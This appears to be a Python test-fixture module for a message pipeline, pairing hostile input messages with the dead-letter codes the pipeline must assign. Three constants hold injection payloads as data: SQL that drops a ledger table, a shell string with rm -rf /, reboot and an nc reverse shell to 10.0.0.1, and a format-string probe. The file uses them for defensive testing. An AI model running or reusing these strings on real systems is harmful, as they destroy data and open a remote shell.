"""One hostile message and the dead-letter code it must get (events.md "Outputs")."""

from __future__ import annotations

from dataclasses import dataclass

SQL = "x'; DROP TABLE ledger_transactions; --"
SHELL = "$(rm -rf /) `reboot` | nc -e /bin/sh 10.0.0.1 4444 & ;"
FORMAT = "%s%s%s%n %(x)s {0} {__class__}"

#: The codes that need state: ``models.decode`` accepts such a message, the pipeline
#: refuses it (events.md; streams/effects.py).
STATEFUL = frozenset({"unknown_cycle", "unknown_commune", "stale_revision",
                      "conflicting_revision", "cycle_not_open", "cycle_not_closed",
                      "exceeds_outstanding", "cycle_closed", "cycle_not_notified",
                      "complaint_late", "complaints_open", "complaint_window_open",
                      "unknown_complaint", "paid_before_approval", "inputs_changed"})
#: Every dead-letter code of events.md.
CODES = frozenset({
    "malformed_json", "schema_violation", "unknown_event_type", "unsupported_schema_version",
    "message_too_large", "unknown_cycle", "unknown_commune", "unknown_window",
    "missing_condition", "missing_indicator", "unknown_condition", "unknown_indicator",
    "invalid_value", "value_out_of_range", "stale_revision", "conflicting_revision",
    "cycle_not_open", "cycle_not_closed", "exceeds_outstanding", "cycle_closed"})


@dataclass(frozen=True)
class Hostile:
    """One message to publish, and the dead-letter code it must get."""

    name: str
    topic: str  # logical input topic
    key: bytes | None
    value: bytes | None
    code: str
    #: a known disagreement with ``code`` (decode or pipeline): reported, not hidden
    issue: str | None = None
